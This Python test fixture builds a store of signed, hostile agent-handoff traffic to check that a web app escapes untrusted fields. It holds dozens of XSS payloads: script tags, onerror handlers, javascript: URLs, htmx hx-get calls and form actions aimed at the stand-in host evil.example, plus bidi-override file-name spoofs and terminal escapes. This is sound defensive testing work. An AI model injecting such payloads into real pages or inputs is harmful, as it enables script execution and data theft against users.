"""A store made only of hostile traffic, for tests/browser/test_xss.py.

Every field an agent or a capture chooses carries a payload, as far as profile §1.2 lets it:
identifiers (``iss``, ``aud``, ``dialog``, ``task``, ``obo``, ref ``uri``, ``kid``) are
printable ASCII without spaces, so they carry markup spelt without spaces
(``<img/src=x/onerror=...>``), attribute break-outs, ``hx-*`` attributes and
``javascript:`` URLs; free text (a status's ``detail``, a ref's ``name``, unknown payload
members) also carries spaces, bidi overrides and control characters. Every payload that
would run sets ``window.__xss`` or calls ``alert``, and every one that would fetch names
``evil.example``, so the test sees either.

The elements are signed with ``handoff_context`` by keys listed in a trust file (so they
pass the signature check and are stored), and ingested through the one pipeline:

- A -> B: an offer with hostile dialog, task, obo and refs, in a capture record naming the
  same hostile dialog; accepted, then failed with a ``javascript:`` reason URI and a
  hostile detail;
- B -> C: the next hop, carrying A's offer as its chain;
- A -> B again with the same hop and other octets: equivocation (a flag with both offers
  side by side);
- B -> C travels in an A2A ``SendMessage`` whose ``contextId`` is the hostile dialog;
- C -> D with a lifetime over the policy: rejected, a flag, and an element page;
- D -> A in an A2A message whose ``contextId`` is another hostile string: a dialog
  mismatch, whose detail quotes it;
- an offer signed by a key the trust file does not list: untrusted-key.

Envelope traffic (docs/envelopes.md) for one hostile case, whose every untrusted member
carries a payload (``CASE_ID``, ``HANDOFF``, ``SENDER``, ...; identifiers may hold spaces,
bidi overrides and controls there):

- SENDER -> RECEIVER: an A2A 1.0 handoff with hostile goal, steps, facts (one unsourced),
  questions, constraints and summary, two url references (a ``javascript:`` URL without a
  hash, and a URL breaking out of an attribute, with a hostile file name and media type),
  and a hostile ``contextId``; accepted by RECEIVER (epoch 1);
- case events: SENDER still writes at epoch 0 with a hostile detail, and ACTOR acts at
  epoch 0 (two ``two-owners``);
- RECEIVER -> THIRD with the same ``contextId`` (``context-id-reuse``), rejected by THIRD
  with a hostile reason;
- a message whose envelope fails the schema (an epoch of markup) beside a drifted envelope
  whose media type carries markup (``invalid-envelope``, ``version-drift``).

``UPLOAD`` is a capture for the upload form whose items the verifier must refuse: an
identifier with a bidi override and a space, and a capture record whose dialog carries a
control character; its file name is hostile too (``UPLOAD_NAME``).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from handoff_context import (
    Signer,
    TrustStore,
    digest_text,
    handoff_digest,
    handoff_object,
    make_offer,
    make_status,
    new_hop,
    offer_payload,
    sign_payload,
    trust_document,
)
from handoff_context.carry import A2A_EXTENSION_URI

from app.envelope.extract import DEFAULT_TYPES
from app.ingest.build import build_pipeline, verify_options
from app.ingest.pipeline import ingest
from app.settings import Settings
from app.store import db

T = 1_793_200_000  # the offers' issue time
NOW = T + 300  # the service's pinned clock: every hop is still live or just answered

# Identifiers: printable ASCII, no spaces (profile §1.2).
A = "spiffe://a.example/<script>window.__xss='iss'</script>"
B = 'spiffe://b.example/"onmouseover="window.__xss=\'aud\'"x="<b>bold<br>'
C = "javascript:window.__xss='C'//<img/src=https://evil.example/c.png/onerror=alert('C')>"
D = "spiffe://d.example/<div/hx-get=https://evil.example/hx/hx-trigger=load/hx-on::load=alert(1)>"
STRANGER = "spiffe://x.example/'hx-get='//evil.example/s'hx-trigger='load'"
DIALOG = "ctx-<svg/onload=window.__xss='dialog'>"
TASK = "<script>alert('task')</script>"
OBO = "javascript:alert('obo')"
KID = "<img/src=https://evil.example/kid.png/onerror=alert('kid')>"
REASON = "javascript:window.__xss='reason'"
# An A2A contextId that differs from the offer's dialog (a policy rejection quoting it).
CONTEXT = "ctx-\"><script>window.__xss='ctx'</script>"
# Free text: spaces, markup, bidi overrides and isolates, control characters.
DETAIL = (
    "<script>window.__xss='detail'</script><img src=x onerror=\"alert('detail')\"> "
    '<a href="javascript:alert(\'a\')" hx-get="https://evil.example/d" hx-trigger="load">'
    "x</a> done \u202egnp.exe\u202c \u2067rtl\u2069 bell\x07 esc\x1b[31m back\x08"
)
REF_NAME = "<img src=https://evil.example/ref.png> \u202eeman"
NOTE = "<style>body{background:url(https://evil.example/bg)}</style> \u2066\u202e\x1b"
# What the upload form gets: refused by the parser, shown only in verdict details.
UPLOAD_NAME = "<img src=x onerror=alert('file')>\u202egnp.jsonl"
BAD_IDENTIFIER = "spiffe://a.example/\u202egnp evil"
BAD_DIALOG = "ctx-\x1b[2J<script>alert('rec')</script>"

# Envelope traffic: any string, so markup with spaces, bidi overrides and controls too.
CASE_ID = "C-<script>window.__xss='case'</script> \u202eesac\u202c\x07"
HANDOFF = 'H-"><img src=x onerror="window.__xss=\'handoff\'"> \u202e1\x1b'
# Agents that also receive (a capture record's received_by): printable ASCII, no spaces.
SENDER = "https://s.example/<svg/onload=alert('sender')>"
RECEIVER = "https://r.example/\"><script>window.__xss='receiver'</script>"
THIRD = "https://t.example/<a/href=javascript:alert('third')>third</a>"
# An agent only named in a case event: anything.
ACTOR = "actor \u202e<script>window.__xss='actor'</script>\x1b"
GOAL = "<script>window.__xss='goal'</script> \u202elaog\u202c bell\x07"
STEP = "<img src=https://evil.example/step.png onerror=alert('step')> \u2067step\u2069"
FACT_KEY = "<b onmouseover=alert('key')>key</b> \u202e"
FACT_VALUE = "<iframe src=javascript:alert('value')></iframe>\x1b[31m"
FACT_SOURCE = "javascript:window.__xss='source' \u202e"
QUESTION = "<form action=https://evil.example/q><button>ask</button></form> \x08"
CONSTRAINT = "<style>*{background:url(https://evil.example/c)}</style>"
SUMMARY = "line 1 <script>window.__xss='summary'</script>\nline 2 \u202eyrammus\x7f"
JS_URL = "javascript:window.__xss='url'"
BREAKOUT_URL = "https://store.example/x\"><script>window.__xss='ref'</script>"
FILENAME = "<img src=x onerror=alert('filename')>\u202egnp.exe"
REF_TYPE = "text/html\"><svg onload=alert('type')>"
REJECTION = "<script>window.__xss='reason'</script> \u202enosaer\x07"
EVENT_DETAIL = "<img src=x onerror=\"window.__xss='event'\"> \u202eliated\x1b"
CONTEXT_ID = "ctx-\"><script>window.__xss='context'</script>\u202e"
DRIFT_TYPE = "application/vnd.x'\"><iframe>.handoff.v9+json"
BAD_EPOCH = "<script>window.__xss='epoch'</script>"

SENTINEL_HOSTS = ("evil.example",)
(ENVELOPE_TYPE,) = DEFAULT_TYPES


@dataclass(frozen=True)
class Hostile:
    db: Path
    trust: Path
    now: int
    upload: bytes  # the capture for the upload form
    offer: str  # digest of A -> B (a hop page)
    next_offer: str  # digest of B -> C (a hop page with a chain)
    rejected: str  # digest of C -> D (an element page)
    untrusted: str  # digest of the stranger's offer (an element page)
    mismatch: str  # digest of D -> A, whose A2A contextId is not its dialog
    equivocation_flag: int
    context_flag: int  # the hostile case's context-id-reuse flag


def _record(at: int, by: str | None, payload: dict[str, Any]) -> dict[str, Any]:
    record: dict[str, Any] = {"received_at": at, "payload": payload}
    if by is not None:
        record["received_by"] = by
    return record


def _a2a(handoff: dict[str, Any], context: str) -> dict[str, Any]:
    """An A2A 1.0 SendMessage request carrying ``handoff`` (profile §9)."""
    message = {
        "messageId": "msg-1",
        "contextId": context,
        "role": "ROLE_USER",
        "parts": [{"text": "<img src=x onerror=alert('part')> \u202e"}],
        "metadata": {A2A_EXTENSION_URI: handoff},
        "extensions": [A2A_EXTENSION_URI],
    }
    return {"jsonrpc": "2.0", "id": 1, "method": "SendMessage", "params": {"message": message}}


def _handoff(env: dict[str, Any], context: str, extra: list[dict[str, Any]]) -> dict[str, Any]:
    """A JSON-RPC SendMessage request whose A2A 1.0 message carries the envelope ``env``."""
    message = {
        "messageId": str(env["handoff_id"]),
        "contextId": context,
        "role": "ROLE_USER",
        "parts": [{"text": GOAL}, {"data": env, "mediaType": ENVELOPE_TYPE}, *extra],
    }
    return {"jsonrpc": "2.0", "id": 2, "method": "SendMessage", "params": {"message": message}}


def _envelope(handoff: str, sender: str, epoch: object) -> dict[str, Any]:
    return {
        "version": 2,
        "case_id": CASE_ID,
        "handoff_id": handoff,
        "from_agent": sender,
        "epoch": epoch,
        "goal": GOAL,
        "done": [STEP, GOAL],
        "remaining": [STEP],
        "facts": [
            {"key": FACT_KEY, "value": FACT_VALUE, "source": FACT_SOURCE, "verified": True},
            {"key": FACT_KEY, "value": {FACT_KEY: [FACT_VALUE]}, "verified": False},
        ],
        "open_questions": [QUESTION],
        "constraints": {CONSTRAINT: CONSTRAINT, "deadline": [FACT_VALUE, None, 3]},
        "summary": SUMMARY,
    }


def _answer(data: dict[str, Any], state: str) -> dict[str, Any]:
    """A JSON-RPC response: an A2A 1.0 Task in ``state`` with the answer as its artifact."""
    task = {
        "id": "task-1",
        "contextId": CONTEXT_ID,
        "status": {"state": state},
        "artifacts": [{"artifactId": "answer", "parts": [{"data": data}]}],
    }
    return {"jsonrpc": "2.0", "id": 2, "result": task}


def _case_records() -> list[dict[str, Any]]:
    """The hostile case's traffic, in time order (the module docstring)."""
    second = HANDOFF + " #2"
    refs = [
        {"url": JS_URL, "mediaType": REF_TYPE, "filename": FILENAME, "metadata": {}},
        {
            "url": BREAKOUT_URL,
            "mediaType": REF_TYPE,
            "filename": FILENAME,
            "metadata": {"sha256": "ab" * 32, "bytes": 7},
        },
    ]
    event = {
        "case_id": CASE_ID,
        "agent": SENDER,
        "action": "write",
        "epoch": 0,
        "at": T + 120,
        "outcome": "applied",
        "detail": EVENT_DETAIL,
    }
    drift = [{"data": _envelope(second, THIRD, 1), "mediaType": DRIFT_TYPE}]
    return [
        _record(T + 100, RECEIVER, _handoff(_envelope(HANDOFF, SENDER, 0), CONTEXT_ID, refs)),
        _record(
            T + 110,
            SENDER,
            _answer(
                {"accepted": True, "case_id": CASE_ID, "epoch": 1, "handoff_id": HANDOFF},
                "TASK_STATE_COMPLETED",
            ),
        ),
        {"case_event": event},
        {"case_event": {**event, "agent": ACTOR, "action": "act", "at": T + 125}},
        _record(T + 130, THIRD, _handoff(_envelope(second, RECEIVER, 1), CONTEXT_ID, [])),
        _record(
            T + 140,
            RECEIVER,
            _answer(
                {"accepted": False, "case_id": CASE_ID, "handoff_id": second, "reason": REJECTION},
                "TASK_STATE_REJECTED",
            ),
        ),
        _record(T + 150, RECEIVER, _handoff(_envelope(second + "!", THIRD, BAD_EPOCH), "", drift)),
    ]


def _upload(a: Signer) -> bytes:
    bad_iss = sign_payload(
        offer_payload(iss=BAD_IDENTIFIER, aud=B, dialog=DIALOG, iat=T, task=TASK), a
    )
    good = make_offer(a, aud=B, dialog=DIALOG, iat=T, task=TASK)
    records = [
        _record(T + 1, B, {"offer": bad_iss.decode()}),
        {**_record(T + 1, B, {"offer": good.decode()}), "dialog": BAD_DIALOG},
        _record(T + 1, B, {"offer": good.decode()}),
    ]
    return "".join(json.dumps(r) + "\n" for r in records).encode()


def build(root: Path) -> Hostile:
    a = Signer.generate(A, "ES256", kid=KID)
    b = Signer.generate(B, "Ed25519")
    c = Signer.generate(C, "ES256")
    d = Signer.generate(D, "Ed25519")
    stranger = Signer.generate(STRANGER, "ES256")  # not in the trust file
    refs = [
        {
            "kind": "digest",
            "digest": b"\x01" * 32,
            "name": REF_NAME,
            "uri": "javascript:alert('uri')",
            "media_type": "text/html",
        }
    ]
    hop = new_hop()
    first = make_offer(
        a,
        aud=B,
        dialog=DIALOG,
        iat=T,
        lifetime=240,
        hop=hop,
        task=TASK,
        obo=OBO,
        refs=refs,
        extra={"note": NOTE},
    )
    twin = make_offer(a, aud=B, dialog=DIALOG, iat=T + 2, lifetime=240, hop=hop, task="other")
    accepted = make_status(b, offer_octets=first, state="accepted", iat=T + 5)
    failed = make_status(
        b, offer_octets=first, state="failed", iat=T + 9, reason=REASON, detail=DETAIL
    )
    second = make_offer(
        b,
        aud=C,
        dialog=DIALOG,
        iat=T + 6,
        lifetime=240,
        task=TASK,
        prev=handoff_digest(first),
    )
    too_long = make_offer(c, aud=D, dialog=DIALOG, iat=T + 20, lifetime=900, task=TASK)
    untrusted = make_offer(stranger, aud=D, dialog=DIALOG, iat=T + 30)
    elsewhere = make_offer(d, aud=A, dialog=DIALOG, iat=T + 40, task=TASK)
    records = [
        {**_record(T + 1, B, handoff_object(first)), "dialog": DIALOG},
        _record(T + 3, B, handoff_object(twin)),
        _record(T + 6, None, {"status": accepted.decode()}),
        _record(T + 7, C, _a2a(handoff_object(second, [first]), DIALOG)),
        _record(T + 10, None, {"status": failed.decode()}),
        _record(T + 21, D, handoff_object(too_long)),
        _record(T + 31, D, handoff_object(untrusted)),
        _record(T + 41, A, _a2a(handoff_object(elsewhere), CONTEXT)),
        *_case_records(),
    ]
    capture = "".join(json.dumps(r) + "\n" for r in records).encode()

    trust_path = root / "trust.json"
    trust_path.write_text(json.dumps(trust_document([a, b, c, d])))
    trust_path.chmod(0o644)
    url = f"sqlite:///{root / 'store.db'}"
    engine = db.make_engine(url)
    try:
        db.ensure_schema(engine)
        settings = Settings(database_url=url, trust_file=trust_path)
        pipeline = build_pipeline(
            settings, engine, TrustStore.load(trust_path), options=verify_options(settings, at=NOW)
        )
        report = ingest(pipeline, [("hostile.jsonl", capture)], now=NOW)
        assert not report.errors, report.errors
        outcomes = [
            (v.outcome.value, v.reason.value if v.reason else None) for v in report.verdicts
        ]
        assert outcomes == [
            ("accept", None),
            ("reject", "equivocation"),
            ("accept", None),
            ("accept", None),
            ("accept", None),
            ("reject", "policy"),
            ("reject", "untrusted-key"),
            ("reject", "policy"),
        ], outcomes
        assert not report.envelopes.errors[1:], report.envelopes.errors  # only the bad epoch
        flag_id = _flag(engine, "equivocation")
        context_flag = _flag(engine, "context-id-reuse")
    finally:
        engine.dispose()
    return Hostile(
        db=root / "store.db",
        trust=trust_path,
        now=NOW,
        upload=_upload(a),
        offer=digest_text(handoff_digest(first)),
        next_offer=digest_text(handoff_digest(second)),
        rejected=digest_text(handoff_digest(too_long)),
        untrusted=digest_text(handoff_digest(untrusted)),
        mismatch=digest_text(handoff_digest(elsewhere)),
        equivocation_flag=flag_id,
        context_flag=context_flag,
    )


def _flag(engine: Any, kind: str) -> int:
    from sqlalchemy import select

    from app.store.models import FlagRow

    with db.transaction(engine) as session:
        found = session.execute(
            select(FlagRow.id).where(FlagRow.kind == kind).order_by(FlagRow.id)
        ).scalar()
    assert found is not None, f"the hostile store must hold a {kind} flag"
    return int(found)
